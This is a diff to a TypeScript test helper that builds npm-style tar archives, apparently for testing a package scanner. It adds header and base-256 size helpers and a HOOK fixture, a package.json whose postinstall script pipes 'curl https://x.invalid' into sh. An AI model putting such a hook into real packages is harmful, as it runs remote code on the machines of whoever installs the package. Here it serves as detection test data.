@@ -41,6 +41,16 @@ export function entry(told: TarHeader): Buffer {
   return Buffer.concat([head, content, padding]);
 }
 
+/** An entry without its content. */
+export function header(told: TarHeader): Buffer {
+  return entry(told).subarray(0, BLOCK);
+}
+
+/** A size field as GNU tar writes large ones: these bytes, and zeros. */
+export function base256(bytes: readonly number[]): Buffer {
+  return Buffer.from([...bytes, ...Array<number>(12).fill(0)].slice(0, 12));
+}
+
 /** A record of a pax header (POSIX): its own length, in digits, is part of the length. */
 export function paxRecord(key: string, value: string): string {
   const rest = ` ${key}=${value}\n`;
@@ -60,6 +70,12 @@ export function pax(records: Readonly<Record<string, string>>, type: 'x' | 'g' =
 export const MANIFEST = entry({
   name: 'package/package.json',
   content: JSON.stringify({ name: 'sample', version: '1.0.0' }),
+});
+/** A manifest with a hook that the scanner calls malicious wherever it sees it. */
+export const HOOK = JSON.stringify({
+  name: 'sample',
+  version: '1.0.0',
+  scripts: { postinstall: 'curl https://x.invalid | sh' },
 });
 export const END = Buffer.alloc(2 * BLOCK);
 
